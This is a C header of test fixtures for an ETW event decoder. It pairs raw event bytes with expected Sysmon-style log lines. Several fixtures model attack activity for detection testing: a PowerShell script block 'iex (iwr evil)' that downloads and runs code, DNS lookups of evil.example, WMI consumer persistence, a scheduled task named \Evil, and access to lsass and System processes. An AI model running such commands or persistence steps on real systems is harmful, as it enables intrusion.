/*
 * etw_fixtures.h - user data for every layout of etw_layout.def, made by hand from the documented fields, and the
 * record that comes of it.
 *
 * The decoder knows process 1000, C:\p.exe, which writes the events, and the system's process 4; the device
 * \Device\HarddiskVolume3 is C:; key 0xa1 is \REGISTRY\MACHINE\SYSTEM\ControlSet001\Services\x, file 0xf2 C:\old.txt.
 */
#define ADDRESSES "4:1000|4:0|i:203.0.113.7|i:192.0.2.1|P:443|P:50000"
#define ADDRESSES6 "4:1000|4:0|I:20010db8000000000000000000000007|I:20010db8000000000000000000000001|P:443|P:50000"

struct etw_fixture {
	enum etw_provider provider;
	uint16_t id;
	uint8_t oldest, newest;
	const char *bytes; /* etw_bytes.h */
	const char *line;  /* as event_line() shows the record; NULL: there is nothing to report */
};

static const struct etw_fixture etw_fixtures[] = {
	{ETW_process, 1, 2, 2, "p:1|4:2000|4:1000|4:1|4:259|t:S-1-5-21-1-2-3-1001|a:cmd.exe|w:cmd /c whoami",
	 NULL},
	{ETW_process, 1, 3, 3, "p:1|4:2000|4:1000|4:1|4:259|p:2|t:S-1-5-18|a:cmd.exe|w:cmd /c whoami",
	 NULL},
	{ETW_process, 1, 4, 5, "p:1|4:2000|4:1000|4:1|4:259|p:2|4:0|t:|a:cmd.exe|w:cmd /c whoami|w:|w:",
	 NULL},
	{ETW_process, 2, 2, 5, "p:1|4:1000|4:4|4:1|4:3",
	 "process_exit pid 1000 LAB\\joe Image=\"C:\\\\p.exe\" exit_code=3"},
	{ETW_process, 3, 2, 2, "p:1|4:2000|4:4|4:1|4:259|t:S-1-5-18|a:csrss.exe|w:csrss.exe x",
	 "process_start pid 2000 NT AUTHORITY\\SYSTEM ParentProcessId=4 TerminalSessionId=1 Image=\"C:\\\\asked.exe\" "
	 "IntegrityLevel=System CommandLine=\"csrss.exe x\" LogonId=0x3e7 ParentImage=System ParentUser=\"NT "
	 "AUTHORITY\\\\SYSTEM\""},
	{ETW_process, 3, 3, 3, "p:1|4:2000|4:4|4:1|4:259|p:2|t:S-1-5-18|a:csrss.exe|w:csrss.exe x",
	 "process_start pid 2000 NT AUTHORITY\\SYSTEM ParentProcessId=4 TerminalSessionId=1 Image=\"C:\\\\asked.exe\" "
	 "IntegrityLevel=System CommandLine=\"csrss.exe x\" LogonId=0x3e7 ParentImage=System ParentUser=\"NT "
	 "AUTHORITY\\\\SYSTEM\""},
	{ETW_process, 3, 4, 5, "p:1|4:2000|4:4|4:1|4:259|p:2|4:0|t:S-1-5-18|a:csrss.exe|w:csrss.exe x",
	 "process_start pid 2000 NT AUTHORITY\\SYSTEM ParentProcessId=4 TerminalSessionId=1 Image=\"C:\\\\asked.exe\" "
	 "IntegrityLevel=System CommandLine=\"csrss.exe x\" LogonId=0x3e7 ParentImage=System ParentUser=\"NT "
	 "AUTHORITY\\\\SYSTEM\""},
	{ETW_process, 4, 2, 5, "p:1|4:2000",
	 NULL},
	{ETW_thread, 1, 2, 4, "4:1000|4:77|p:1|p:2|p:3|p:4|p:5|p:0x7ff61230",
	 NULL},
	{ETW_thread, 1, 2, 4, "4:4|4:77|p:1|p:2|p:3|p:4|p:5|p:0x7ff61230",
	 "create_remote_thread pid 1000 LAB\\joe TargetProcessId=4 NewThreadId=77 StartAddress=0x000000007FF61230 "
	 "SourceProcessId=1000 SourceImage=\"C:\\\\p.exe\" SourceCommandLine=\"p.exe -x\" SourceParentImage=System "
	 "SourceUser=\"LAB\\\\joe\" TargetImage=System TargetUser=\"NT AUTHORITY\\\\SYSTEM\""},
	{ETW_thread, 2, 2, 4, "4:1000|4:77",
	 NULL},
	{ETW_thread, 3, 2, 4, "4:1000|4:77",
	 NULL},
	{ETW_thread, 4, 2, 4, "4:1000|4:77",
	 NULL},
	{ETW_image, 10, 2, 4,
	 "p:1|p:2|4:1000|4:3|4:4|4:5|p:6|4:0|4:0|4:0|4:0|w:\\Device\\HarddiskVolume3\\Windows\\a.dll",
	 "image_load pid 1000 LAB\\joe ImageLoaded=\"C:\\\\Windows\\\\a.dll\" Image=\"C:\\\\p.exe\" "
	 "CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_image, 10, 3, 3, "p:1|p:2|4:0|4:3|4:4|4:5|p:6|4:0|4:0|4:0|4:0|w:\\SystemRoot\\System32\\drivers\\b.sys",
	 "driver_load pid 4 NT AUTHORITY\\SYSTEM ImageLoaded=\"C:\\\\Windows\\\\System32\\\\drivers\\\\b.sys\""},
	{ETW_image, 2, 2, 4, "p:1|p:2|4:1000",
	 NULL},
	{ETW_image, 3, 2, 4, "p:1|p:2|4:1000",
	 NULL},
	{ETW_image, 4, 2, 4, "p:1|p:2|4:1000",
	 NULL},
	{ETW_kernel_process, 1, 0, 0, "4:2000|8:133445000000000000|4:1000|4:1|w:\\Device\\HarddiskVolume3\\x.exe",
	 NULL},
	{ETW_kernel_process, 1, 1, 2, "4:2000|8:133445000000000000|4:1000|4:1|4:0|w:\\Device\\HarddiskVolume3\\x.exe",
	 NULL},
	{ETW_kernel_process, 1, 3, 4,
	 "4:2000|8:9|8:133445000000000000|4:1000|8:8|4:1|4:0|4:1|4:0|s:S-1-16-12288|w:\\Device\\HarddiskVolume3\\x.exe",
	 NULL},
	{ETW_kernel_process, 2, 0, 1, "4:1000|8:1|8:2|4:5",
	 "process_exit pid 1000 LAB\\joe Image=\"C:\\\\p.exe\" exit_code=5"},
	{ETW_kernel_process, 2, 2, 2, "4:1000|8:7|8:1|8:2|4:5",
	 "process_exit pid 1000 LAB\\joe Image=\"C:\\\\p.exe\" exit_code=5"},
	{ETW_kernel_process, 5, 0, 0, "p:1|p:2|4:1000|4:3|4:4|p:6|w:\\Device\\HarddiskVolume3\\a.dll",
	 "image_load pid 1000 LAB\\joe ImageLoaded=\"C:\\\\a.dll\" Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" "
	 "ParentImage=System"},
	{ETW_kernel_process, 6, 0, 0, "p:1|p:2|4:1000",
	 NULL},
	{ETW_kernel_process, 15, 0, 0, "4:2000|8:1|4:4|4:0|4:0|w:\\Device\\HarddiskVolume3\\s.exe",
	 "process_start pid 2000 NT AUTHORITY\\SYSTEM ParentProcessId=4 TerminalSessionId=0 Image=\"C:\\\\s.exe\" "
	 "IntegrityLevel=System LogonId=0x3e7 ParentImage=System ParentUser=\"NT AUTHORITY\\\\SYSTEM\""},
	{ETW_kernel_process, 15, 1, 1,
	 "4:2000|8:3|8:1|4:4|8:2|4:0|4:0|4:1|4:0|s:S-1-16-8192|w:\\Device\\HarddiskVolume3\\s.exe",
	 "process_start pid 2000 NT AUTHORITY\\SYSTEM ParentProcessId=4 TerminalSessionId=0 Image=\"C:\\\\s.exe\" "
	 "IntegrityLevel=Medium LogonId=0x3e7 ParentImage=System ParentUser=\"NT AUTHORITY\\\\SYSTEM\""},
	{ETW_kernel_file, 10, 0, 0, "p:0xf1|w:\\Device\\HarddiskVolume3\\old.txt",
	 NULL},
	{ETW_kernel_file, 11, 0, 0, "p:0xf1|w:\\Device\\HarddiskVolume3\\old.txt",
	 NULL},
	{ETW_kernel_file, 12, 0, 0, "p:1|p:2|p:0xf2|4:0x01000020|4:0|4:7|w:\\Device\\HarddiskVolume3\\old.txt",
	 NULL},
	{ETW_kernel_file, 12, 1, 1, "p:1|p:0xf2|4:2|4:0x01000020|4:0|4:7|w:\\Device\\HarddiskVolume3\\old.txt",
	 NULL},
	{ETW_kernel_file, 12, 1, 1, "p:1|p:0xf3|4:2|4:0x03000000|4:0|4:7|w:\\Device\\NamedPipe\\msagent_f1",
	 "pipe_created pid 1000 LAB\\joe EventType=CreatePipe PipeName=\"\\\\msagent_f1\" Image=\"C:\\\\p.exe\" "
	 "CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_kernel_file, 12, 1, 1, "p:1|p:0xf3|4:2|4:0x01000000|4:0|4:7|w:\\Device\\NamedPipe\\lsass",
	 "pipe_created pid 1000 LAB\\joe EventType=ConnectPipe PipeName=\"\\\\lsass\" Image=\"C:\\\\p.exe\" "
	 "CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_kernel_file, 12, 1, 1, "p:1|p:0xf3|4:2|4:0x01000000|4:0|4:7|w:\\Device\\NamedPipe\\",
	 NULL},
	{ETW_kernel_file, 14, 0, 0, "p:1|p:2|p:0xf2",
	 NULL},
	{ETW_kernel_file, 14, 1, 1, "p:1|p:0xf2|p:0xf1|4:2",
	 NULL},
	{ETW_kernel_file, 19, 0, 0, "p:1|p:2|p:0xf2",
	 NULL},
	{ETW_kernel_file, 19, 1, 1, "p:1|p:0xf2|p:0xf1|p:0|4:2|4:10",
	 NULL},
	{ETW_kernel_file, 26, 0, 0, "p:1|p:2|p:0xf2|p:0xf1|p:1|4:13|w:\\Device\\HarddiskVolume3\\gone.txt",
	 "file_delete pid 1000 LAB\\joe TargetFilename=\"C:\\\\gone.txt\" Image=\"C:\\\\p.exe\" CommandLine=\"p.exe "
	 "-x\" ParentImage=System"},
	{ETW_kernel_file, 26, 1, 1, "p:1|p:0xf2|p:0xf1|p:1|4:2|4:64|w:\\Device\\HarddiskVolume3\\gone.txt",
	 "file_delete pid 1000 LAB\\joe TargetFilename=\"C:\\\\gone.txt\" Image=\"C:\\\\p.exe\" CommandLine=\"p.exe "
	 "-x\" ParentImage=System"},
	{ETW_kernel_file, 26, 1, 1, "p:1|p:0xf2|p:0xf1|p:0|4:2|4:64|w:\\Device\\HarddiskVolume3\\kept.txt",
	 NULL},
	{ETW_kernel_file, 27, 0, 0, "p:1|p:2|p:0xf2|p:0xf1|p:0|4:10|w:\\Device\\HarddiskVolume3\\new.txt",
	 "file_rename pid 1000 LAB\\joe TargetFilename=\"C:\\\\new.txt\" SourceFilename=\"C:\\\\old.txt\" "
	 "Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_kernel_file, 27, 1, 1, "p:1|p:0xf8|p:0xf1|p:0|4:2|4:65|w:\\Device\\HarddiskVolume3\\new.txt",
	 "file_rename pid 1000 LAB\\joe TargetFilename=\"C:\\\\new.txt\" Image=\"C:\\\\p.exe\" CommandLine=\"p.exe "
	 "-x\" ParentImage=System"},
	{ETW_kernel_file, 28, 0, 0, "p:1|p:2|p:0xf2|p:0xf1|p:0|4:11|w:\\Device\\HarddiskVolume3\\link.txt",
	 "file_create pid 1000 LAB\\joe TargetFilename=\"C:\\\\link.txt\" Image=\"C:\\\\p.exe\" CommandLine=\"p.exe "
	 "-x\" ParentImage=System"},
	{ETW_kernel_file, 28, 1, 1, "p:1|p:0xf2|p:0xf1|p:0|4:2|4:72|w:\\Device\\HarddiskVolume3\\link.txt",
	 "file_create pid 1000 LAB\\joe TargetFilename=\"C:\\\\link.txt\" Image=\"C:\\\\p.exe\" CommandLine=\"p.exe "
	 "-x\" ParentImage=System"},
	{ETW_kernel_file, 30, 0, 0, "p:1|p:2|p:0xf2|4:0x02000060|4:0x80|4:7|w:\\Device\\Mup\\server\\share\\made.txt",
	 "file_create pid 1000 LAB\\joe TargetFilename=\"\\\\\\\\server\\\\share\\\\made.txt\" Image=\"C:\\\\p.exe\" "
	 "CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_kernel_file, 30, 1, 1, "p:1|p:0xf2|4:2|4:0x02000060|4:0x80|4:7|w:\\Device\\HarddiskVolume3\\made.txt",
	 "file_create pid 1000 LAB\\joe TargetFilename=\"C:\\\\made.txt\" Image=\"C:\\\\p.exe\" CommandLine=\"p.exe "
	 "-x\" ParentImage=System"},
	{ETW_kernel_file, 30, 1, 1, "p:1|p:0xf2|4:2|4:0x02000021|4:0x80|4:7|w:\\Device\\HarddiskVolume3\\folder",
	 NULL},
	{ETW_kernel_network, 10, 0, 0, ADDRESSES "|4:0|4:0|4:0|4:0",
	 NULL},
	{ETW_kernel_network, 11, 0, 0, ADDRESSES "|4:0|4:0",
	 NULL},
	{ETW_kernel_network, 12, 0, 0, ADDRESSES "|2:1460|2:1|2:0|2:1|4:65535|2:8|2:8|4:0|4:0",
	 "network_connect pid 1000 LAB\\joe SourceIp=192.0.2.1 DestinationIp=203.0.113.7 SourcePort=50000 "
	 "DestinationPort=443 Protocol=tcp Initiated=true Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" "
	 "ParentImage=System"},
	{ETW_kernel_network, 13, 0, 0, ADDRESSES "|4:0|4:0",
	 NULL},
	{ETW_kernel_network, 14, 0, 0, ADDRESSES "|4:0|4:0",
	 NULL},
	{ETW_kernel_network, 15, 0, 0, ADDRESSES "|2:1460|2:1|2:0|2:1|4:65535|2:8|2:8|4:0|4:0",
	 "network_connect pid 1000 LAB\\joe SourceIp=203.0.113.7 DestinationIp=192.0.2.1 SourcePort=443 "
	 "DestinationPort=50000 Protocol=tcp Initiated=false Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" "
	 "ParentImage=System"},
	{ETW_kernel_network, 16, 0, 0, ADDRESSES "|4:0|4:0",
	 NULL},
	{ETW_kernel_network, 17, 0, 0, "2:6|2:1",
	 NULL},
	{ETW_kernel_network, 26, 0, 0, ADDRESSES6 "|4:0|4:0|4:0|4:0",
	 NULL},
	{ETW_kernel_network, 27, 0, 0, ADDRESSES6 "|4:0|4:0",
	 NULL},
	{ETW_kernel_network, 28, 0, 0, ADDRESSES6 "|2:1440",
	 "network_connect pid 1000 LAB\\joe SourceIp=2001:db8::1 DestinationIp=2001:db8::7 SourcePort=50000 "
	 "DestinationPort=443 Protocol=tcp Initiated=true Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" "
	 "ParentImage=System"},
	{ETW_kernel_network, 29, 0, 0, ADDRESSES6 "|4:0|4:0",
	 NULL},
	{ETW_kernel_network, 30, 0, 0, ADDRESSES6 "|4:0|4:0",
	 NULL},
	{ETW_kernel_network, 31, 0, 0, ADDRESSES6 "|2:1440",
	 "network_connect pid 1000 LAB\\joe SourceIp=2001:db8::7 DestinationIp=2001:db8::1 SourcePort=443 "
	 "DestinationPort=50000 Protocol=tcp Initiated=false Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" "
	 "ParentImage=System"},
	{ETW_kernel_network, 32, 0, 0, ADDRESSES6 "|4:0|4:0",
	 NULL},
	{ETW_kernel_network, 42, 0, 0, ADDRESSES "|4:0|4:0",
	 "network_connect pid 1000 LAB\\joe SourceIp=192.0.2.1 DestinationIp=203.0.113.7 SourcePort=50000 "
	 "DestinationPort=443 Protocol=udp Initiated=true Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" "
	 "ParentImage=System"},
	{ETW_kernel_network, 43, 0, 0, ADDRESSES "|4:0|4:0",
	 "network_connect pid 1000 LAB\\joe SourceIp=203.0.113.7 DestinationIp=192.0.2.1 SourcePort=443 "
	 "DestinationPort=50000 Protocol=udp Initiated=false Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" "
	 "ParentImage=System"},
	{ETW_kernel_network, 58, 0, 0, ADDRESSES6 "|4:0|4:0",
	 "network_connect pid 1000 LAB\\joe SourceIp=2001:db8::1 DestinationIp=2001:db8::7 SourcePort=50000 "
	 "DestinationPort=443 Protocol=udp Initiated=true Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" "
	 "ParentImage=System"},
	{ETW_kernel_network, 59, 0, 0, ADDRESSES6 "|4:0|4:0",
	 "network_connect pid 1000 LAB\\joe SourceIp=2001:db8::7 DestinationIp=2001:db8::1 SourcePort=443 "
	 "DestinationPort=50000 Protocol=udp Initiated=false Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" "
	 "ParentImage=System"},
	{ETW_kernel_registry, 1, 0, 0, "p:0xa1|p:0xb1|4:0|4:1|w:|w:Sub\\Key",
	 "registry_add pid 1000 LAB\\joe EventType=CreateKey "
	 "TargetObject=\"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\x\\\\Sub\\\\Key\" Image=\"C:\\\\p.exe\" "
	 "CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_kernel_registry, 1, 0, 0, "p:0xa1|p:0xb1|4:0|4:2|w:|w:Sub\\Key",
	 NULL},
	{ETW_kernel_registry, 1, 0, 0, "p:0xa1|p:0xb1|4:0xc0000034|4:0|w:|w:Sub\\Key",
	 NULL},
	{ETW_kernel_registry, 1, 0, 0, "p:0|p:0xb1|4:0|4:1|w:|w:\\REGISTRY\\USER\\S-1-5-21-1-2-3-1001\\Environment",
	 "registry_add pid 1000 LAB\\joe EventType=CreateKey "
	 "TargetObject=\"HKU\\\\S-1-5-21-1-2-3-1001\\\\Environment\" Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" "
	 "ParentImage=System"},
	{ETW_kernel_registry, 2, 0, 0, "p:0xa1|p:0xb1|4:0|4:2|w:|w:Sub\\Key",
	 NULL},
	{ETW_kernel_registry, 3, 0, 0, "p:0xa1|4:0|w:",
	 "registry_delete pid 1000 LAB\\joe EventType=DeleteKey "
	 "TargetObject=\"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\x\" Image=\"C:\\\\p.exe\" "
	 "CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_kernel_registry, 3, 0, 0, "p:0xdead|4:0|w:",
	 NULL},
	{ETW_kernel_registry, 5, 0, 0, "p:0xa1|4:0|4:4|4:4|w:|w:Start|2:4|b:04000000|4:4|4:4|2:0",
	 "registry_set pid 1000 LAB\\joe EventType=SetValue "
	 "TargetObject=\"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\x\\\\Start\" Details=\"DWORD "
	 "(0x00000004)\" Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_kernel_registry, 5, 0, 0, "p:0xa1|4:0|4:1|4:12|w:|w:|2:12|b:68006500790021003d000000|4:0|4:0|2:0",
	 "registry_set pid 1000 LAB\\joe EventType=SetValue "
	 "TargetObject=\"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\x\\\\(Default)\" Details=hey!= "
	 "Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_kernel_registry, 5, 0, 0, "p:0xa1|4:0|4:11|4:8|w:|w:Q|2:8|b:0100000002000000|4:0|4:0|2:0",
	 "registry_set pid 1000 LAB\\joe EventType=SetValue "
	 "TargetObject=\"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\x\\\\Q\" Details=\"QWORD "
	 "(0x00000002-0x00000001)\" Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_kernel_registry, 5, 0, 0, "p:0xa1|4:0|4:3|4:3|w:|w:B|2:3|b:010203|4:0|4:0|2:0",
	 "registry_set pid 1000 LAB\\joe EventType=SetValue "
	 "TargetObject=\"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\x\\\\B\" Details=\"Binary Data\" "
	 "Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_kernel_registry, 5, 0, 0, "p:0xa1|4:0|4:1|4:2|w:|w:Empty|2:2|b:0000|4:0|4:0|2:0",
	 "registry_set pid 1000 LAB\\joe EventType=SetValue "
	 "TargetObject=\"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\x\\\\Empty\" Details=(Empty) "
	 "Image=\"C:\\\\p.exe\" CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_kernel_registry, 5, 0, 0, "p:0xa1|4:0|4:1|4:40|w:|w:NotCaptured|2:0|b:|4:0|4:0|2:0",
	 "registry_set pid 1000 LAB\\joe EventType=SetValue "
	 "TargetObject=\"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\x\\\\NotCaptured\" Image=\"C:\\\\p.exe\" "
	 "CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_kernel_registry, 6, 0, 0, "p:0xa1|4:0|w:|w:Gone",
	 "registry_delete pid 1000 LAB\\joe EventType=DeleteValue "
	 "TargetObject=\"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\x\\\\Gone\" Image=\"C:\\\\p.exe\" "
	 "CommandLine=\"p.exe -x\" ParentImage=System"},
	{ETW_kernel_registry, 13, 0, 0, "p:0xa1|4:0",
	 NULL},
	{ETW_kernel_audit, 4, 0, 0, "4:0",
	 NULL},
	{ETW_kernel_audit, 5, 0, 0, "4:4|4:0x1fffff|4:0",
	 "process_access pid 1000 LAB\\joe TargetProcessId=4 SourceThreadId=1004 GrantedAccess=0x1FFFFF "
	 "SourceProcessId=1000 SourceImage=\"C:\\\\p.exe\" SourceUser=\"LAB\\\\joe\" TargetImage=System "
	 "TargetUser=\"NT AUTHORITY\\\\SYSTEM\""},
	{ETW_kernel_audit, 5, 0, 0, "4:4|4:0x1fffff|4:0xc0000022",
	 NULL},
	{ETW_kernel_audit, 5, 0, 0, "4:1000|4:0x1fffff|4:0",
	 NULL},
	{ETW_kernel_audit, 6, 0, 0, "4:4|4:8|4:0x1fffff|4:0",
	 NULL},
	{ETW_dns_client, 3006, 0, 0, "w:evil.example|4:1|8:0|w:|4:0|4:0|4:0|4:0",
	 NULL},
	{ETW_dns_client, 3008, 0, 0, "w:evil.example|4:28|8:1073766400|4:0|w:::ffff:203.0.113.7;",
	 "dns_query pid 1000 LAB\\joe QueryName=evil.example record_type=AAAA Image=\"C:\\\\p.exe\" "
	 "CommandLine=\"p.exe -x\""},
	{ETW_dns_client, 3018, 0, 0, "w:evil.example|4:1|8:0|4:0|w:",
	 NULL},
	{ETW_dns_client, 3020, 0, 0, "w:evil.example|4:1|4:0|4:5|4:0|w:",
	 NULL},
	{ETW_powershell, 4103, 1, 1, "w:Host Application = powershell.exe|w:|w:CommandInvocation(Get-Item): \"Get-Item\"",
	 "ps_module pid 1000 LAB\\joe Payload=\"CommandInvocation(Get-Item): \\\"Get-Item\\\"\" ContextInfo=\"Host "
	 "Application = powershell.exe\""},
	{ETW_powershell, 4104, 1, 1, "4:1|4:1|w:iex (iwr evil)|w:6b1f4ee8-0000-0000-0000-000000000001|w:C:\\x.ps1",
	 "ps_script pid 1000 LAB\\joe ScriptBlockText=\"iex (iwr evil)\" "
	 "ScriptBlockId=6b1f4ee8-0000-0000-0000-000000000001 Path=\"C:\\\\x.ps1\""},
	{ETW_powershell_core, 4103, 1, 1, "w:Host Application = powershell.exe|w:|w:CommandInvocation(Get-Item): \"Get-Item\"",
	 "ps_module pid 1000 LAB\\joe Payload=\"CommandInvocation(Get-Item): \\\"Get-Item\\\"\" ContextInfo=\"Host "
	 "Application = powershell.exe\""},
	{ETW_powershell_core, 4104, 1, 1, "4:1|4:1|w:iex (iwr evil)|w:6b1f4ee8-0000-0000-0000-000000000001|w:C:\\x.ps1",
	 "ps_script pid 1000 LAB\\joe ScriptBlockText=\"iex (iwr evil)\" "
	 "ScriptBlockId=6b1f4ee8-0000-0000-0000-000000000001 Path=\"C:\\\\x.ps1\""},
	{ETW_wmi_activity, 11, 0, 0,
	 "w:{c}|4:1|4:2|w:Start IWbemServices::ExecQuery - root\\cimv2 : select x|w:LAB|w:LAB.example|w:LAB\\joe|"
	 "4:1000|8:1|w:\\\\.\\root\\cimv2|4:1",
	 "wmi_activity pid 1000 LAB\\joe EventID=11 ClientProcessId=1000 Operation=\"Start IWbemServices::ExecQuery - "
	 "root\\\\cimv2 : select x\" ClientMachine=LAB User=\"LAB\\\\joe\" "
	 "NamespaceName=\"\\\\\\\\.\\\\root\\\\cimv2\""},
	{ETW_wmi_activity, 5857, 0, 0,
	 "w:CIMWin32|4:0|w:wmiprvse.exe|4:3000|w:%systemroot%\\system32\\wbem\\cimwin32.dll",
	 "wmi_activity pid 1000 LAB\\joe EventID=5857 ProviderName=CIMWin32 "
	 "ProviderPath=\"%systemroot%\\\\system32\\\\wbem\\\\cimwin32.dll\" HostProcess=wmiprvse.exe"},
	{ETW_wmi_activity, 5858, 0, 0,
	 "w:{c}|w:LAB|w:LAB\\joe|4:1000|w:Unknown|w:Start IWbemServices::ExecMethod|4:0x80041002|w:Unknown",
	 "wmi_activity pid 1000 LAB\\joe EventID=5858 ClientProcessId=1000 ResultCode=2147749890 Operation=\"Start "
	 "IWbemServices::ExecMethod\" ClientMachine=LAB User=\"LAB\\\\joe\" PossibleCause=Unknown"},
	{ETW_wmi_activity, 5859, 0, 0, "w:root\\cimv2|w:select *|w:LAB\\joe|4:1000|w:prov|4:0|w:Permanent",
	 "wmi_activity pid 1000 LAB\\joe EventID=5859 ClientProcessId=1000 User=\"LAB\\\\joe\" "
	 "NamespaceName=\"root\\\\cimv2\" Query=\"select *\" ProviderName=prov PossibleCause=Permanent"},
	{ETW_wmi_activity, 5860, 0, 0, "w:root\\cimv2|w:select *|w:LAB\\joe|4:1000|w:LAB|w:Temporary",
	 "wmi_activity pid 1000 LAB\\joe EventID=5860 ClientProcessId=1000 ClientMachine=LAB User=\"LAB\\\\joe\" "
	 "NamespaceName=\"root\\\\cimv2\" Query=\"select *\" PossibleCause=Temporary"},
	{ETW_wmi_activity, 5861, 0, 0,
	 "w:root\\subscription|w:Updater|w:CommandLineEventConsumer=\"Updater\"|w:CommandLineTemplate = \"calc.exe\"",
	 "wmi_event pid 1000 LAB\\joe EventID=5861 EventType=WmiBindingEvent Operation=Created "
	 "Destination=\"CommandLineTemplate = \\\"calc.exe\\\"\" Namespace=\"root\\\\subscription\" ESS=Updater "
	 "CONSUMER=\"CommandLineEventConsumer=\\\"Updater\\\"\" PossibleCause=\"CommandLineTemplate = "
	 "\\\"calc.exe\\\"\""},
	{ETW_task_scheduler, 106, 0, 0, "w:\\Evil|w:LAB\\joe",
	 "task_event pid 1000 LAB\\joe EventID=106 TaskName=\"\\\\Evil\" UserContext=\"LAB\\\\joe\""},
	{ETW_task_scheduler, 129, 0, 0, "w:\\Evil|w:C:\\Windows\\Temp\\x.exe|4:3000|4:16384",
	 "task_event pid 1000 LAB\\joe EventID=129 ProcessID=3000 TaskName=\"\\\\Evil\" "
	 "Path=\"C:\\\\Windows\\\\Temp\\\\x.exe\""},
	{ETW_task_scheduler, 140, 0, 0, "w:\\Evil|w:LAB\\joe",
	 "task_event pid 1000 LAB\\joe EventID=140 TaskName=\"\\\\Evil\" UserName=\"LAB\\\\joe\""},
	{ETW_task_scheduler, 141, 0, 0, "w:\\Evil|w:LAB\\joe",
	 "task_event pid 1000 LAB\\joe EventID=141 TaskName=\"\\\\Evil\" UserName=\"LAB\\\\joe\""},
	{ETW_task_scheduler, 142, 0, 0, "w:\\Evil|w:LAB\\joe",
	 "task_event pid 1000 LAB\\joe EventID=142 TaskName=\"\\\\Evil\" UserName=\"LAB\\\\joe\""},
	{ETW_task_scheduler, 200, 0, 1, "w:\\Evil|w:C:\\x.exe|g:|4:5",
	 "task_event pid 1000 LAB\\joe EventID=200 TaskName=\"\\\\Evil\" ActionName=\"C:\\\\x.exe\""},
	{ETW_task_scheduler, 201, 0, 0, "w:\\Evil|w:C:\\x.exe|g:",
	 "task_event pid 1000 LAB\\joe EventID=201 TaskName=\"\\\\Evil\" ActionName=\"C:\\\\x.exe\""},
	{ETW_task_scheduler, 201, 1, 2, "w:\\Evil|g:|w:C:\\x.exe|4:2147942401|4:5",
	 "task_event pid 1000 LAB\\joe EventID=201 ResultCode=2147942401 TaskName=\"\\\\Evil\" "
	 "ActionName=\"C:\\\\x.exe\""},
};
